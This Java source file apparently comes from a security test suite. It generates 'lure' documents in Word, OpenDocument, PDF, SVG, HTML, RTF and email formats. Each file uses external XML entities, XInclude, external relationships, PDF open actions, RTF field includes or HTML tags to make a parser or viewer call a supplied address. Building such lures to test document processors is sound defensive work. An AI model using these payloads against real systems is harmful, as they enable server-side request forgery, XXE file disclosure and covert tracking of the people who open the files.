package org.contreseing.attack;

import static org.contreseing.attack.Parts.AGREEMENT;
import static org.contreseing.attack.Parts.utf8;

import java.util.LinkedHashMap;
import java.util.Map;

/** Documents of every format that ask for a file to be opened or an address to be called. */
final class Lures {

  private static final String OFFICE =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

  private Lures() {}

  /** By file name; each asks for {@code address} in one way. */
  static Map<String, byte[]> all(String address) {
    Map<String, byte[]> lures = new LinkedHashMap<>();
    declarations(address).forEach((name, doctype) -> declared(lures, name, doctype));
    included(lures, address);
    word(lures, address);
    openDocument(lures, address);
    portable(lures, address);
    others(lures, address);
    return lures;
  }

  static Map<String, String> declarations(String address) {
    Map<String, String> all = new LinkedHashMap<>();
    all.put("entity", Entities.external(address));
    all.put("subset", Entities.subset(address));
    all.put("parameter", Entities.parameter(address));
    return all;
  }

  private static void declared(Map<String, byte[]> lures, String name, String doctype) {
    String word = Parts.wordBody(Parts.wordParagraphs(AGREEMENT + "&e;"));
    lures.put(name + ".docx", Parts.docx().add("word/document.xml", doctype + word).bytes());
    RawZip relations = new RawZip().add("[Content_Types].xml", doctype + "<Types>ms-word.</Types>");
    lures.put(name + "-rels.docx", relations.add("_rels/.rels", doctype + "<a>&e;</a>").bytes());
    String content = Parts.odtContent(Parts.odtParagraphs(AGREEMENT + "&e;"));
    lures.put(name + ".odt", Parts.odt().add("content.xml", doctype + content).bytes());
    RawZip styled = Parts.odt().add("content.xml", content.replace("&e;", ""));
    lures.put(name + "-styles.odt", styled.add("styles.xml", doctype + "<a>&e;</a>").bytes());
    lures.put(name + ".fodt", utf8(Parts.flatOdt(doctype, Parts.odtParagraphs(AGREEMENT + "&e;"))));
    lures.put(name + ".svg", utf8(doctype + "<svg>&e;</svg>"));
    lures.put(name + ".html", utf8(doctype + "<html><body>" + Parts.html(AGREEMENT) + "&e;"));
    String form =
        "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template>&e;</template></xdp:xdp>";
    lures.put(name + "-xfa.pdf", pdf("/AcroForm << /XFA 6 0 R /Fields [] >>", doctype + form));
    String xmp = "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\">&e;</x:xmpmeta>";
    lures.put(name + "-xmp.pdf", pdf("/Metadata 6 0 R", doctype + xmp));
  }

  private static byte[] pdf(String catalogue, String stream) {
    return RawPdf.ordinary(catalogue).stream("/Type /Metadata /Subtype /XML", utf8(stream)).bytes();
  }

  private static void included(Map<String, byte[]> lures, String address) {
    String include = Entities.include(address);
    lures.put("include.docx", Parts.docx(Parts.wordParagraphs(AGREEMENT) + include));
    lures.put("include.odt", Parts.odt(Parts.odtParagraphs(AGREEMENT) + include));
    lures.put("include.html", utf8("<html><body>" + Parts.html(AGREEMENT) + include));
  }

  private static void word(Map<String, byte[]> lures, String address) {
    for (String type :
        new String[] {"attachedTemplate", "image", "aFChunk", "styles", "header", "footnotes"}) {
      for (String mode : new String[] {" TargetMode=\"External\"", ""}) {
        String relation =
            "<Relationships><Relationship Id=\"a\" Type=\""
                + OFFICE
                + type
                + "\" Target=\""
                + address
                + "\""
                + mode
                + "/></Relationships>";
        byte[] docx =
            Parts.docx()
                .add("word/document.xml", Parts.wordBody(Parts.wordParagraphs(AGREEMENT)))
                .add("word/_rels/document.xml.rels", relation)
                .bytes();
        lures.put(type + (mode.isEmpty() ? "-inside" : "") + ".docx", docx);
      }
    }
  }

  private static void openDocument(Map<String, byte[]> lures, String address) {
    String link = " xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"" + address + "\"";
    String body = Parts.odtParagraphs(AGREEMENT);
    lures.put(
        "section.odt",
        Parts.odt("<text:section><text:section-source" + link + "/></text:section>" + body));
    lures.put("image.odt", Parts.odt("<draw:image xmlns:draw=\"urn:x\"" + link + "/>" + body));
    lures.put(
        "script.fodt", utf8(Parts.flatOdt("<?xml-stylesheet href=\"" + address + "\"?>", body)));
  }

  private static void portable(Map<String, byte[]> lures, String address) {
    String uri = "/OpenAction << /S /URI /URI (" + address + ") >>";
    lures.put("action.pdf", RawPdf.ordinary(uri).bytes());
    String file = "/OpenAction << /S /GoToR /F << /FS /URL /F (" + address + ") >> >>";
    lures.put("remote.pdf", RawPdf.ordinary(file).bytes());
    String submit = "/OpenAction << /S /SubmitForm /F (" + address + ") >>";
    lures.put("submit.pdf", RawPdf.ordinary(submit).bytes());
    String links = "/Resources << /XObject << /X 6 0 R >> /Font << /F 4 0 R >> >> /Contents 5 0 R";
    String external = "/F (" + address + ") /Type /XObject /Subtype /Image /Width 9 /Height 9";
    lures.put(
        "stream.pdf",
        RawPdf.page(links, "").stream("/X Do\n" + RawPdf.content(AGREEMENT)).stream(
                external, new byte[0])
            .bytes());
  }

  private static void others(Map<String, byte[]> lures, String address) {
    String page =
        "<html><head><base href='%s'><link rel=stylesheet href='%s'><meta http-equiv=refresh"
            + " content='0;url=%s'><script src='%s'></script></head><body><img src='%s'><iframe src='%s'>"
            + "</iframe><object data='%s'></object>";
    lures.put("page.html", utf8(page.replace("%s", address) + Parts.html(AGREEMENT)));
    String field = "{\\field{\\*\\fldinst INCLUDEPICTURE \"" + address + "\"}{\\fldrslt x}}";
    String template = "{\\*\\template " + address + "}";
    lures.put(
        "field.rtf", Parts.latin1("{\\rtf1 " + template + field + Parts.rtf(AGREEMENT) + "}"));
    String body = "message/external-body; access-type=URL; URL=\"" + address + "\"; name=a.txt";
    lures.put("external.eml", utf8(Parts.mail(body, "Content-Type: text/plain\r\n\r\n")));
  }
}
